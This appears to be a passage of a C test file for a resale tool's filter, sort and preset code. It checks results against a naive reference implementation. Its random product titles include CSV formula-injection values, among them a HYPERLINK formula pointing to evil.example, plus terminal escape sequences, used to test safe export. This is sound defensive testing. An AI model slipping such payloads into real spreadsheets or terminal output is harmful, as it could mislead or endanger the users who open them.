/*
 * test_view.c: the seller's view (view/filter.h, export.h, table.h, time.h, text.h, doc.h).
 *
 * Filters and sorts are checked against a second, naive implementation written here from the
 * documented vocabulary: a few thousand random records (every input known and unknown, ties
 * in every sort key, the same ASIN on two marketplaces, marks, all states) and a few hundred
 * random queries spelled the three ways (CLI, config, URL); the selection must equal the
 * reference's, element for element, and every filter must have excluded and kept records in
 * some query (a filter that never bites would pass vacuously). Parse errors name the key as
 * written. JSON is parsed back with jansson and held to the field table (types, units in the
 * names, values); CSV is parsed by a strict RFC 4180 reader written here and by Python's csv
 * module, and a formula-looking title comes back as text. The table fits every width from 34
 * to 200 columns, measured with the C library's wcwidth, and colour only adds SGR sequences.
 * docs/view.md is what its generator makes.
 */
#include <errno.h>
#include <inttypes.h>
#include <locale.h>
#include <math.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>
#include <wchar.h>

#ifdef VW_HAVE_JANSSON
#include <jansson.h>
#endif

#include "judge/inputs.h"
#include "judge/judge.h"
#include "judge/market.h"
#include "kd_test.h"
#include "store/codec.h"
#include "view/doc.h"
#include "view/export.h"
#include "view/filter.h"
#include "view/preset.h"
#include "view/table.h"
#include "view/text.h"
#include "view/time.h"

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

static const int64_t NOW_MS = 1764000000000LL; /* 2025-11-24T16:00:00Z */

/* ---- random records ---- */

static uint64_t rng_state = 0x2545f4914f6cdd1dULL;
static int64_t rnd(int64_t lo, int64_t hi)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 7;
    rng_state ^= rng_state << 17;
    return lo + (int64_t)(rng_state % (uint64_t)(hi - lo + 1));
}

static int64_t abs64(int64_t v)
{
    return v < 0 ? -v : v;
}

static bool chance(int percent)
{
    return rnd(0, 99) < percent;
}

static const int64_t cat_ids[] = {283155, 172282, 3760911, 16310091, 1055398, 165793011, 99999};
static const char *const titles[] = {
    "A used textbook, \xc3\xa9"
    "dition fran\xc3\xa7"
    "aise",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+1 cable, 6 ft",
    "-20% off \"best\" kettle",
    "@SUM(A1:A9)",
    "\tTabbed title",
    "Line one\r\nline two",
    "Broken \xff\xfe bytes \xc3",
    "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe3\x81\xae\xe6\x9c\xac \xe2\x80\x94 wide title",
    "Plain widget",
    "",
    "Title with \x1b[31mescape\x1b[0m and \x07 bell",
};

static void random_record(struct st_record *r)
{
    st_record_init(r);
    snprintf(r->asin, sizeof(r->asin), "B%09u", (unsigned)rnd(0, 1499));
    r->domain = (uint8_t)(chance(85) ? 1 : chance(50) ? 3 : 5);
    const char *t = titles[rnd(0, ARRAY_LEN(titles) - 1)];
    st_record_set_title(r, t, strlen(t));
    r->source = (uint8_t)rnd(0, 4);
    struct jd_inputs *in = &r->in;
    in->root_category = chance(90) ? cat_ids[rnd(0, ARRAY_LEN(cat_ids) - 1)] : 0;
    if (chance(30)) {
        const char *names[] = {"Books", "books", "Toys & Games", "Patio, Lawn & Garden"};
        const char *n = names[rnd(0, 3)];
        st_record_set_category(r, n, strlen(n));
    }
    in->amazon_cents = chance(20) ? rnd(500, 20000) : -1;
    in->amazon_availability = (int32_t)rnd(-2, 4);
    in->buy_box_is_amazon = (int32_t)rnd(-1, 1);
    in->new_buy_box_cents = chance(50) ? rnd(500, 20000) : -1;
    in->used_buy_box_cents = chance(50) ? rnd(300, 15000) : -1;
    in->new_lowest_fba_cents = chance(50) ? rnd(500, 20000) : -1;
    in->used_lowest_fba_cents = chance(50) ? rnd(300, 15000) : -1;
    in->new_cents = chance(75) ? rnd(300, 20000) : -1;
    in->used_cents = chance(75) ? rnd(100, 15000) : -1;
    in->new_avg90_cents = chance(80) ? rnd(500, 25000) : -1;
    in->used_avg90_cents = chance(80) ? rnd(300, 20000) : -1;
    in->sales_rank = chance(85) ? rnd(1, 3000) * (chance(50) ? 1 : 1000) : -1;
    in->drops30 = (int32_t)(chance(80) ? rnd(0, 60) : -1);
    in->drops365 = (int32_t)(chance(85) ? rnd(0, 400) : -1);
    in->monthly_sold = (int32_t)(chance(60) ? rnd(0, 20) * 50 : -1);
    in->offers_new = (int32_t)(chance(80) ? rnd(0, 40) : -1);
    in->offers_used = (int32_t)(chance(80) ? rnd(0, 40) : -1);
    in->offers_fba = (int32_t)(chance(60) ? rnd(0, 20) : -1);
    in->offers_fbm = (int32_t)(chance(60) ? rnd(0, 20) : -1);
    in->referral_bp = (int32_t)(chance(75) ? rnd(600, 2000) : -1);
    in->fba_fee_cents = chance(75) ? rnd(250, 900) : -1;
    in->hazmat = (int32_t)rnd(-1, 1);
    in->heat_sensitive = (int32_t)rnd(-1, 1);
    in->adult = (int32_t)rnd(-1, 1);
    in->package_weight_g = (int32_t)(chance(70) ? rnd(50, 12000) : -1);
    in->fees_known = true;
    in->buy_source = (uint8_t)(chance(90) ? JD_BUY_OFFER : JD_BUY_NONE);
    in->buy_condition = (uint8_t)rnd(0, 5);
    in->buy_price_cents = rnd(100, 15000);
    in->buy_shipping_cents = chance(60) ? 0 : rnd(100, 600);
    snprintf(in->buy_seller_id, sizeof(in->buy_seller_id), "A%06u", (unsigned)rnd(0, 999999));
    in->buy_is_fba = chance(50);
    in->buy_is_amazon = chance(5);
    in->buy_seen_ms = chance(90) ? NOW_MS - rnd(0, 30LL * 86400000) : 0;
    in->data_ms = NOW_MS - rnd(0, 86400000);
    in->keepa_last_update_min = chance(90) ? rnd(7000000, 7900000) : -1;

    struct jd_rules rules;
    jd_rules_default(&rules);
    jd_judge(in, &rules, &r->v);
    if (chance(25) && r->v.priced) { /* ties in ROI and profit */
        r->v.roi_bp = rnd(-2, 10) * 500;
        r->v.profit_cents = rnd(-5, 20) * 100;
    }
    int s = (int)rnd(0, 9);
    r->state = (uint8_t)(s < 5 ? ST_STATE_DEAL : s < 7 ? ST_STATE_FAILING : ST_STATE_REJECTED);
    r->v.near = r->state != ST_STATE_DEAL && chance(40);
    r->rules_hash = chance(80) ? jd_rules_hash(&rules) : 12345;
    r->judged_ms = NOW_MS - rnd(0, 86400000);
    r->first_seen_ms = NOW_MS - rnd(0, 20LL * 86400000);
    /* A failing record keeps the time it became a deal; since reads it only for deals. */
    r->deal_since_ms =
        r->state != ST_STATE_REJECTED && chance(90) ? NOW_MS - rnd(0, 72) * 3600000 : 0;
    r->last_checked_ms = chance(95) ? NOW_MS - rnd(0, 96) * 3600000 : 0;
    r->last_changed_ms = r->last_checked_ms;
    r->next_check_ms = chance(70) ? NOW_MS + rnd(0, 86400000) : 0;
    r->revision = (uint64_t)rnd(1, 100);
    int m = (int)rnd(0, 9);
    r->mark = (uint8_t)(m < 7 ? ST_MARK_NONE : m < 9 ? ST_MARK_BOUGHT : ST_MARK_IGNORED);
    if (r->mark != ST_MARK_NONE) {
        r->mark_ms = NOW_MS - rnd(0, 86400000);
        if (r->mark == ST_MARK_BOUGHT) {
            r->bought_cost_cents = rnd(100, 5000);
            r->bought_qty = (int32_t)rnd(1, 10);
        }
    }
}

static struct st_record *random_records(size_t n)
{
    struct st_record *recs = calloc(n, sizeof(*recs));
    assert_non_null(recs);
    for (size_t i = 0; i < n; i++)
        random_record(&recs[i]);
    return recs;
}

/* ---- the reference: the vocabulary implemented again, naively ---- */

struct ref_query {
    bool min_roi, min_profit, max_rank, min_drops30, min_sold, max_offers, since;
    int64_t min_roi_bp, min_profit_cents, max_rank_v;
    int64_t min_drops30_v, min_sold_v, max_offers_v, since_from_ms;
    int n_cats;
    int64_t cat_id[4];
    char cat_name[4][64];
    unsigned conditions; /* bit per condition code; 0 any */
    bool no_amazon, no_hazmat, marked;
    unsigned verdicts; /* 1 deal, 2 near, 4 other */
    int sort;          /* 0 roi, 1 profit, 2 monthly, 3 rank, 4 fresh */
    size_t limit, offset;
};

static bool ref_amazon(const struct st_record *r)
{
    if (r->in.amazon_cents > 0 || r->in.buy_box_is_amazon == 1 || r->in.buy_is_amazon)
        return true;
    switch (r->in.amazon_availability) {
    case 0:
    case 1:
    case 3:
    case 4:
        return true;
    default:
        return false;
    }
}

static int64_t ref_offers(const struct st_record *r)
{
    bool used;
    if (r->in.buy_condition == 1)
        used = false;
    else if (r->in.buy_condition >= 2 && r->in.buy_condition <= 5)
        used = true;
    else
        used = r->v.side == JD_USED;
    int64_t n = used ? r->in.offers_used : r->in.offers_new;
    if (n >= 0)
        return n;
    if (r->in.offers_fba >= 0 && r->in.offers_fbm >= 0)
        return (int64_t)r->in.offers_fba + r->in.offers_fbm;
    return -1;
}

static bool ref_monthly(const struct st_record *r, int64_t *out)
{
    int64_t sales = r->in.monthly_sold >= 0 ? r->in.monthly_sold : r->in.drops30;
    int64_t offers = ref_offers(r);
    if (!r->v.priced || sales < 0 || offers < 0)
        return false;
    *out = llround((double)r->v.profit_cents * (double)sales / (double)(offers + 1));
    return true;
}

static bool ref_match(const struct st_record *r, const struct ref_query *q)
{
    unsigned cls = r->state == ST_STATE_DEAL ? 1u : r->v.near ? 2u : 4u;
    if (!(q->verdicts & cls))
        return false;
    if (!q->marked && r->mark != ST_MARK_NONE)
        return false;
    if (q->min_roi && (!r->v.priced || r->v.roi_bp < q->min_roi_bp))
        return false;
    if (q->min_profit && (!r->v.priced || r->v.profit_cents < q->min_profit_cents))
        return false;
    if (q->max_rank && (r->in.sales_rank <= 0 || r->in.sales_rank > q->max_rank_v))
        return false;
    if (q->min_drops30 && (r->in.drops30 < 0 || r->in.drops30 < q->min_drops30_v))
        return false;
    if (q->min_sold && (r->in.monthly_sold < 0 || r->in.monthly_sold < q->min_sold_v))
        return false;
    if (q->max_offers && (ref_offers(r) < 0 || ref_offers(r) > q->max_offers_v))
        return false;
    if (q->n_cats > 0) {
        bool any = false;
        for (int i = 0; i < q->n_cats; i++) {
            if (q->cat_id[i] > 0) {
                any |= r->in.root_category == q->cat_id[i];
            } else {
                const char *known = jd_category_name(r->domain, r->in.root_category);
                any |= strcasecmp(r->category_name, q->cat_name[i]) == 0 ||
                       (known != NULL && strcasecmp(known, q->cat_name[i]) == 0);
            }
        }
        if (!any)
            return false;
    }
    if (q->conditions != 0 && !(q->conditions & (1u << r->in.buy_condition)))
        return false;
    if (q->no_amazon && ref_amazon(r))
        return false;
    if (q->no_hazmat && r->in.hazmat == 1)
        return false;
    if (q->since) {
        int64_t t = r->last_checked_ms;
        if (r->state == ST_STATE_DEAL && r->deal_since_ms > 0)
            t = r->deal_since_ms;
        if (t < q->since_from_ms)
            return false;
    }
    return true;
}

struct ref_ctx {
    const struct st_record *recs;
    int sort;
};

/* Sort key: *known, and the value with "better first" as smaller. */
static int64_t ref_key(const struct st_record *r, int sort, bool *known)
{
    int64_t m;
    switch (sort) {
    case 0:
        *known = r->v.priced;
        return -r->v.roi_bp;
    case 1:
        *known = r->v.priced;
        return -r->v.profit_cents;
    case 2:
        *known = ref_monthly(r, &m);
        return *known ? -m : 0;
    case 3:
        *known = r->in.sales_rank > 0;
        return r->in.sales_rank;
    default:
        *known = r->last_checked_ms > 0;
        return -r->last_checked_ms;
    }
}

static int ref_cmp(const void *a, const void *b, void *arg)
{
    const struct ref_ctx *c = arg;
    size_t ia = *(const size_t *)a, ib = *(const size_t *)b;
    const struct st_record *x = &c->recs[ia], *y = &c->recs[ib];
    bool kx, ky;
    int64_t vx = ref_key(x, c->sort, &kx), vy = ref_key(y, c->sort, &ky);
    if (kx && !ky)
        return -1;
    if (!kx && ky)
        return 1;
    if (kx && vx != vy)
        return vx < vy ? -1 : 1;
    int s = strcmp(x->asin, y->asin);
    if (s != 0)
        return s;
    if (x->domain != y->domain)
        return x->domain < y->domain ? -1 : 1;
    return ia < ib ? -1 : ia > ib;
}

static size_t ref_select(const struct st_record *recs, size_t n, const struct ref_query *q,
                         size_t *out, size_t *matched)
{
    size_t m = 0;
    for (size_t i = 0; i < n; i++)
        if (ref_match(&recs[i], q))
            out[m++] = i;
    struct ref_ctx c = {recs, q->sort};
    qsort_r(out, m, sizeof(*out), ref_cmp, &c);
    *matched = m;
    size_t from = q->offset < m ? q->offset : m;
    size_t cnt = m - from;
    if (q->limit > 0 && q->limit < cnt)
        cnt = q->limit;
    memmove(out, out + from, cnt * sizeof(*out));
    return cnt;
}

/* ---- random queries, spelled one of the three ways ---- */

struct arg {
    char name[32];
    char value[128];
    bool has_value;
};

struct query {
    struct arg args[20];
    int n;
    struct ref_query ref;
};

/* Spells canonical NAME as the CLI (--min-roi), a config key (min_roi) or a URL key. */
static void spell(struct arg *a, const char *name, int style)
{
    if (style == 0) {
        snprintf(a->name, sizeof(a->name), "--%s", name);
        for (char *p = a->name + 2; *p; p++)
            if (*p == '_')
                *p = '-';
    } else {
        snprintf(a->name, sizeof(a->name), "%s", name);
    }
}

static void add(struct query *q, int style, const char *name, const char *fmt, ...)
    __attribute__((format(printf, 4, 5)));
static void add(struct query *q, int style, const char *name, const char *fmt, ...)
{
    struct arg *a = &q->args[q->n++];
    spell(a, name, style);
    a->has_value = fmt != NULL;
    if (fmt != NULL) {
        va_list ap;
        va_start(ap, fmt);
        vsnprintf(a->value, sizeof(a->value), fmt, ap);
        va_end(ap);
    }
}

static void iso_of(int64_t ms, char *buf, size_t len)
{
    time_t s = (time_t)(ms / 1000);
    struct tm tm;
    gmtime_r(&s, &tm);
    strftime(buf, len, "%Y-%m-%dT%H:%M:%SZ", &tm);
}

static void random_keys(struct query *q, int style);

static void random_query(struct query *q)
{
    memset(q, 0, sizeof(*q));
    q->ref.verdicts = 1;
    random_keys(q, (int)rnd(0, 2));
}

/* Adds random keys to Q in STYLE (0 the command line's, else the config's / URL's); a key
 * given again replaces its earlier value in Q's reference as in the parser. */
static void random_keys(struct query *q, int style)
{
    struct ref_query *r = &q->ref;
    int want = (int)rnd(0, 5);
    for (int k = 0; k < want; k++) {
        switch (rnd(0, 13)) {
        case 0:
            r->min_roi = true;
            r->min_roi_bp = rnd(-20, 80) * 50;
            add(q, style, "min_roi", "%s%" PRId64 ".%02" PRId64, r->min_roi_bp < 0 ? "-" : "",
                abs64(r->min_roi_bp) / 100, abs64(r->min_roi_bp) % 100);
            break;
        case 1:
            r->min_profit = true;
            r->min_profit_cents = rnd(-5, 30) * 50;
            add(q, style, "min_profit", "%s%" PRId64 ".%02" PRId64,
                r->min_profit_cents < 0 ? "-" : "", abs64(r->min_profit_cents) / 100,
                abs64(r->min_profit_cents) % 100);
            break;
        case 2:
            r->max_rank = true;
            r->max_rank_v = rnd(1, 3000) * 1000;
            add(q, style, "max_rank", "%" PRId64, r->max_rank_v);
            break;
        case 3:
            r->min_drops30 = true;
            r->min_drops30_v = rnd(0, 60);
            add(q, style, "min_drops30", "%" PRId64, r->min_drops30_v);
            break;
        case 4:
            r->min_sold = true;
            r->min_sold_v = rnd(0, 20) * 50;
            add(q, style, "min_sold", "%" PRId64, r->min_sold_v);
            break;
        case 5:
            r->max_offers = true;
            r->max_offers_v = rnd(0, 40);
            add(q, style, "max_offers", "%" PRId64, r->max_offers_v);
            break;
        case 6: {
            r->n_cats = (int)rnd(1, 3);
            char v[128] = "";
            for (int i = 0; i < r->n_cats; i++) {
                char item[80];
                if (chance(50)) {
                    r->cat_id[i] = cat_ids[rnd(0, ARRAY_LEN(cat_ids) - 1)];
                    snprintf(item, sizeof(item), "%" PRId64, r->cat_id[i]);
                } else {
                    const char *names[] = {"Books",
                                           "BOOKS",
                                           "Electronics",
                                           "toys & games",
                                           "Patio, Lawn & Garden",
                                           "Beauty & Personal Care"};
                    r->cat_id[i] = 0;
                    snprintf(r->cat_name[i], sizeof(r->cat_name[i]), "%s", names[rnd(0, 5)]);
                    snprintf(item, sizeof(item), " %s ", r->cat_name[i]);
                }
                strcat(v, i ? "|" : "");
                strcat(v, item);
            }
            add(q, style, "category", "%s", v);
            break;
        }
        case 7: {
            static const struct {
                const char *word;
                unsigned bits;
            } words[] = {{"new", 1u << 1},       {"used", 0x3cu},   {"like_new", 1u << 2},
                         {"very-good", 1u << 3}, {"good", 1u << 4}, {"Acceptable", 1u << 5}};
            int a = (int)rnd(0, 5), b = (int)rnd(0, 5);
            r->conditions = words[a].bits | (chance(50) ? words[b].bits : 0);
            if (r->conditions == words[a].bits)
                add(q, style, "condition", "%s", words[a].word);
            else
                add(q, style, "condition", "%s|%s", words[a].word, words[b].word);
            break;
        }
        case 8:
            r->no_amazon = true;
            add(q, style, "no_amazon", style == 0 ? NULL : "%s", "yes");
            break;
        case 9:
            r->no_hazmat = true;
            add(q, style, "no_hazmat", style == 0 ? NULL : "%s", "true");
            break;
        case 10: {
            static const struct {
                const char *word;
                unsigned bits;
            } words[] = {{"deal", 1}, {"near", 2}, {"all", 7}, {"deal|near", 3}, {"near|all", 7}};
            int w = (int)rnd(0, 4);
            r->verdicts = words[w].bits;
            add(q, style, "verdict", "%s", words[w].word);
            break;
        }
        case 11:
            r->since = true;
            if (chance(50)) {
                int64_t h = rnd(1, 80);
                r->since_from_ms = NOW_MS - h * 3600000;
                add(q, style, "since", "%" PRId64 "h", h);
            } else {
                char iso[40];
                int64_t at = (NOW_MS - rnd(0, 80) * 3600000) / 1000 * 1000;
                iso_of(at, iso, sizeof(iso));
                r->since_from_ms = at;
                add(q, style, "since", "%s", iso);
            }
            break;
        case 12:
            r->marked = true;
            add(q, style, "marked", style == 0 ? NULL : "%s", "on");
            break;
        default: {
            static const char *const sorts[] = {"roi", "profit", "monthly", "rank", "fresh"};
            r->sort = (int)rnd(0, 4);
            add(q, style, "sort", "%s", sorts[r->sort]);
            break;
        }
        }
    }
    if (chance(30)) {
        r->offset = (size_t)rnd(0, 50);
        add(q, style, "offset", "%zu", r->offset);
    }
    if (chance(30)) {
        r->limit = (size_t)rnd(0, 40);
        add(q, style, "limit", "%zu", r->limit);
    }
}

static void parse_query(const struct query *q, struct vw_filter *f)
{
    vw_filter_init(f, 1);
    for (int i = 0; i < q->n; i++) {
        char err[512];
        int rc = vw_filter_parse_arg(
            f, q->args[i].name, q->args[i].has_value ? q->args[i].value : NULL, err, sizeof(err));
        if (rc != 0)
            fail_msg("%s %s: %d %s", q->args[i].name, q->args[i].value, rc, err);
    }
}

/* ---- filters and sorts against the reference ---- */

static void test_select_matches_reference(void **state)
{
    (void)state;
    enum { N = 3000, QUERIES = 400 };
    struct st_record *recs = random_records(N);
    size_t *got = malloc(N * sizeof(*got)), *want = malloc(N * sizeof(*want));
    assert_non_null(got);
    assert_non_null(want);
    /* Per key: queries where it excluded something that passed the others, and kept some. */
    int bit[VW_K_COUNT] = {0};
    for (int k = 0; k < QUERIES; k++) {
        struct query q;
        random_query(&q);
        struct vw_filter f;
        parse_query(&q, &f);
        size_t n_got = 0, matched = 0, want_matched = 0;
        assert_int_equal(vw_select(recs, N, &f, NOW_MS, got, &n_got, &matched), 0);
        size_t n_want = ref_select(recs, N, &q.ref, want, &want_matched);
        if (matched != want_matched || n_got != n_want ||
            memcmp(got, want, n_got * sizeof(*got)) != 0) {
            char words[1024];
            vw_filter_format(&f, words, sizeof(words));
            fail_msg("query %d: got %zu/%zu, want %zu/%zu for\n%s", k, n_got, matched, n_want,
                     want_matched, words);
        }
        for (size_t i = 0; i < N; i++)
            assert_int_equal(vw_match(&recs[i], &f, NOW_MS), ref_match(&recs[i], &q.ref));
        /* Which filters bit: each given key alone against the same records. */
        for (int key = 0; key < VW_K_COUNT; key++) {
            if (!(f.given & (1u << key)) || key == VW_K_SORT || key == VW_K_LIMIT ||
                key == VW_K_OFFSET)
                continue;
            /* Against a base showing everything (marked hides nothing when it is the key:
             * it then starts hidden). */
            struct vw_filter base, alone;
            vw_filter_init(&base, 1);
            base.verdicts = VW_VERDICT_ALL;
            base.marked = key != VW_K_MARKED;
            alone = base;
            const struct vw_key_info *info = vw_filter_key((size_t)key);
            for (int i = 0; i < q.n; i++) {
                char canon[32];
                snprintf(canon, sizeof(canon), "%s",
                         q.args[i].name + (q.args[i].name[0] == '-' ? 2 : 0));
                for (char *p = canon; *p; p++)
                    if (*p == '-')
                        *p = '_';
                if (strcmp(canon, info->name) == 0)
                    assert_int_equal(
                        vw_filter_parse_arg(&alone, q.args[i].name,
                                            q.args[i].has_value ? q.args[i].value : NULL, NULL, 0),
                        0);
            }
            size_t kept = 0, kept_base = 0;
            for (size_t i = 0; i < N; i++) {
                kept += vw_match(&recs[i], &alone, NOW_MS);
                kept_base += vw_match(&recs[i], &base, NOW_MS);
            }
            if (kept > 0 && kept != kept_base)
                bit[key]++;
        }
    }
    for (int key = 0; key < VW_K_COUNT; key++) {
        if (key == VW_K_SORT || key == VW_K_LIMIT || key == VW_K_OFFSET)
            continue;
        if (bit[key] == 0)
            fail_msg("filter %s never both excluded and kept records", vw_filter_key(key)->name);
    }
    free(got);
    free(want);
    free(recs);
}

/*
 * Presets: random queries written as a [view.p] section of a config, loaded, checked and
 * applied, then random command-line flags after `--view p`: the selection equals the
 * reference's for the merged query (a flag replaces the preset's value of its key).
 */
static void test_presets_match_reference(void **state)
{
    (void)state;
    enum { N = 1500, QUERIES = 300 };
    struct st_record *recs = random_records(N);
    size_t *got = malloc(N * sizeof(*got)), *want = malloc(N * sizeof(*want));
    assert_non_null(got);
    assert_non_null(want);
    static const struct cfg_named_checker *const checkers[] = {&vw_preset_checker};
    int overridden = 0;
    for (int k = 0; k < QUERIES; k++) {
        struct query q;
        memset(&q, 0, sizeof(q));
        q.ref.verdicts = 1;
        random_keys(&q, 1);
        int in_preset = q.n;
        random_keys(&q, 0);
        /* The preset: each key once, its last value (what setting it twice leaves). */
        char text[4096];
        int len = snprintf(text, sizeof(text), "[keepa]\ndomain = 1\n[view.p]\n");
        for (int i = 0; i < in_preset; i++) {
            bool later = false;
            for (int j = i + 1; j < in_preset; j++)
                later |= strcmp(q.args[i].name, q.args[j].name) == 0;
            if (!later)
                len += snprintf(text + len, sizeof(text) - (size_t)len, "%s = %s\n", q.args[i].name,
                                q.args[i].has_value ? q.args[i].value : "true");
        }
        struct cfg c;
        char err[1024];
        if (cfg_load_buffer(text, (size_t)len, "presets.conf", &c, err, sizeof(err)) != 0 ||
            cfg_named_check(&c, checkers, 1, err, sizeof(err)) != 0)
            fail_msg("%s\n%s", err, text);
        struct vw_filter f;
        vw_filter_init(&f, 1);
        if (vw_preset_apply(&c, "p", &f, err, sizeof(err)) != 0)
            fail_msg("%s", err);
        for (int i = in_preset; i < q.n; i++) {
            overridden += i == in_preset;
            assert_int_equal(vw_filter_parse_arg(&f, q.args[i].name,
                                                 q.args[i].has_value ? q.args[i].value : NULL, err,
                                                 sizeof(err)),
                             0);
        }
        size_t n_got = 0, matched = 0, want_matched = 0;
        assert_int_equal(vw_select(recs, N, &f, NOW_MS, got, &n_got, &matched), 0);
        size_t n_want = ref_select(recs, N, &q.ref, want, &want_matched);
        if (matched != want_matched || n_got != n_want ||
            memcmp(got, want, n_got * sizeof(*got)) != 0)
            fail_msg("query %d: got %zu/%zu, want %zu/%zu for\n%s", k, n_got, matched, n_want,
                     want_matched, text);
    }
    assert_true(overridden > QUERIES / 2);
    free(got);
    free(want);
    free(recs);
}

/* A preset's errors name file:line, the section, the key and what it allows, at load (the
 * checker) as at use; --view of a missing preset lists those there are. */
static void test_preset_errors(void **state)
{
    (void)state;
    static const struct cfg_named_checker *const checkers[] = {&vw_preset_checker};
    static const struct {
        const char *text;
        const char *want;
    } cases[] = {
        {"[view.a]\nsort = roi\nmin_roi = abc\n",
         "config: t.conf:3: [view.a] min_roi = abc: percent, e.g. 25 or 12.5"},
        {"[view.a]\nmin_profit = 1.234\n",
         "config: t.conf:2: [view.a] min_profit = 1.234: money in the marketplace's currency, "
         "e.g. 5 or 5.00 (not cents)"},
        {"[keepa]\ndomain = co.jp\n[view.a]\nmin_profit = 5.50\n",
         "config: t.conf:4: [view.a] min_profit = 5.50: money in whole units"},
        {"[view.a]\nno_amazon\n", "config: t.conf:2: syntax error"},
        {"[view.a]\nno_amazon = maybe\n",
         "config: t.conf:2: [view.a] no_amazon = maybe: a switch: true or false"},
        {"[view.a]\n--min-roi = 3\n", "config: t.conf:2: [view.a] --min-roi: unknown key (known: "
                                      "min_roi, min_profit, max_rank"},
        {"[view.a]\nmin-roi = 3\n", "[view.a] min-roi: unknown key"},
        {"[view.a]\nmax_rank = 50k\n", "config: t.conf:2: [view.a] max_rank = 50k: a rank >= 1"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct cfg c;
        char err[1024] = "";
        int rc =
            cfg_load_buffer(cases[i].text, strlen(cases[i].text), "t.conf", &c, err, sizeof(err));
        if (rc == 0)
            rc = cfg_named_check(&c, checkers, 1, err, sizeof(err));
        assert_int_equal(rc, -EINVAL);
        if (strstr(err, cases[i].want) == NULL)
            fail_msg("case %zu: '%s' lacks '%s'", i, err, cases[i].want);
    }
    struct cfg c;
    char err[512];
    const char *two = "[view.one]\nsort = rank\n[view.two]\n";
    assert_int_equal(cfg_load_buffer(two, strlen(two), "t.conf", &c, err, sizeof(err)), 0);
    struct vw_filter f, before;
    vw_filter_init(&f, 1);
    before = f;
    assert_int_equal(vw_preset_apply(&c, "three", &f, err, sizeof(err)), -ENOENT);
    assert_string_equal(err, "--view three: the config has no [view.three] (presets: one, two)");
    assert_memory_equal(&f, &before, sizeof(f));
    assert_int_equal(vw_preset_apply(&c, "one", &f, err, sizeof(err)), 0);
    assert_int_equal(f.sort, VW_SORT_RANK);
    /* An empty preset is the default view. */
    assert_int_equal(vw_preset_apply(&c, "two", &f, err, sizeof(err)), 0);
    assert_int_equal(f.sort, VW_SORT_RANK);
}

static void test_every_sort_and_paging(void **state)
{
    (void)state;
    enum { N = 2000 };
    struct st_record *recs = random_records(N);
    size_t *all = malloc(N * sizeof(*all)), *page = malloc(N * sizeof(*page)),
           *want = malloc(N * sizeof(*want));
    static const char *const sorts[] = {"roi", "profit", "monthly", "rank", "fresh"};
    for (int s = 0; s < 5; s++) {
        struct vw_filter f;
        vw_filter_init(&f, 1);
        assert_int_equal(vw_filter_parse_arg(&f, "--verdict", "all", NULL, 0), 0);
        assert_int_equal(vw_filter_parse_arg(&f, "--marked", NULL, NULL, 0), 0);
        assert_int_equal(vw_filter_parse_arg(&f, "--sort", sorts[s], NULL, 0), 0);
        size_t n_all = 0, matched = 0;
        vw_select(recs, N, &f, NOW_MS, all, &n_all, &matched);
        assert_int_equal(n_all, N);
        struct ref_query q = {.verdicts = 7, .marked = true, .sort = s};
        size_t want_matched;
        assert_int_equal(ref_select(recs, N, &q, want, &want_matched), N);
        assert_memory_equal(all, want, N * sizeof(*all));
        /* Ties exist in every key, and unknowns sort last. */
        int ties = 0;
        bool seen_unknown = false;
        for (size_t i = 0; i + 1 < N; i++) {
            bool ka, kb;
            int64_t a = ref_key(&recs[all[i]], s, &ka), b = ref_key(&recs[all[i + 1]], s, &kb);
            ties += ka && kb && a == b;
            if (!ka)
                seen_unknown = true;
            if (seen_unknown)
                assert_false(kb);
        }
        assert_true(ties > 0);
        /* Pages of 37 cover the ordering exactly once. */
        size_t covered = 0;
        for (size_t off = 0; off < N + 37; off += 37) {
            char v[32];
            snprintf(v, sizeof(v), "%zu", off);
            assert_int_equal(vw_filter_parse_arg(&f, "offset", v, NULL, 0), 0);
            assert_int_equal(vw_filter_parse_arg(&f, "limit", "37", NULL, 0), 0);
            size_t n_page = 0;
            vw_select(recs, N, &f, NOW_MS, page, &n_page, &matched);
            assert_int_equal(matched, N);
            assert_true(n_page <= 37);
            assert_memory_equal(page, all + covered, n_page * sizeof(*page));
            covered += n_page;
        }
        assert_int_equal(covered, N);
        assert_int_equal(vw_filter_parse_arg(&f, "offset", "0", NULL, 0), 0);
        assert_int_equal(vw_filter_parse_arg(&f, "limit", "0", NULL, 0), 0);
    }
    /* The order does not depend on the order of the input. */
    struct vw_filter f;
    vw_filter_init(&f, 1);
    vw_filter_parse_arg(&f, "sort", "monthly", NULL, 0);
    size_t n1 = 0, n2 = 0;
    vw_select(recs, N, &f, NOW_MS, all, &n1, NULL);
    char(*order1)[16] = malloc(n1 * sizeof(*order1));
    for (size_t i = 0; i < n1; i++)
        snprintf(order1[i], 16, "%s/%u", recs[all[i]].asin, recs[all[i]].domain);
    for (size_t i = N - 1; i > 0; i--) {
        size_t j = (size_t)rnd(0, (int64_t)i);
        struct st_record t = recs[i];
        recs[i] = recs[j];
        recs[j] = t;
    }
    vw_select(recs, N, &f, NOW_MS, all, &n2, NULL);
    assert_int_equal(n1, n2);
    for (size_t i = 0; i < n2; i++) {
        char key[16];
        snprintf(key, sizeof(key), "%s/%u", recs[all[i]].asin, recs[all[i]].domain);
        /* Identical ASIN and domain pairs may swap; their key is the same. */
        assert_string_equal(key, order1[i]);
    }
    free(order1);
    free(all);
    free(page);
    free(want);
    free(recs);
}

/* ---- derived figures by hand ---- */

static void base_record(struct st_record *r)
{
    st_record_init(r);
    strcpy(r->asin, "B000000042");
    r->domain = 1;
    r->state = ST_STATE_DEAL;
    r->in.buy_condition = 3;
    r->v.priced = true;
    r->v.profit_cents = 500;
    r->v.side = JD_USED;
}

static void test_derived_figures(void **state)
{
    (void)state;
    struct st_record r;
    int64_t m;
    base_record(&r);
    /* 4 used offers and the seller share 100 sales: 20 units x $5.00 = $100.00 a month. */
    r.in.offers_used = 4;
    r.in.offers_new = 30;
    r.in.monthly_sold = 100;
    assert_int_equal(vw_competing_offers(&r), 4);
    assert_true(vw_monthly_profit(&r, &m));
    assert_int_equal(m, 10000);
    /* A new buy competes with the new offers. */
    r.in.buy_condition = 1;
    assert_int_equal(vw_competing_offers(&r), 30);
    assert_true(vw_monthly_profit(&r, &m));
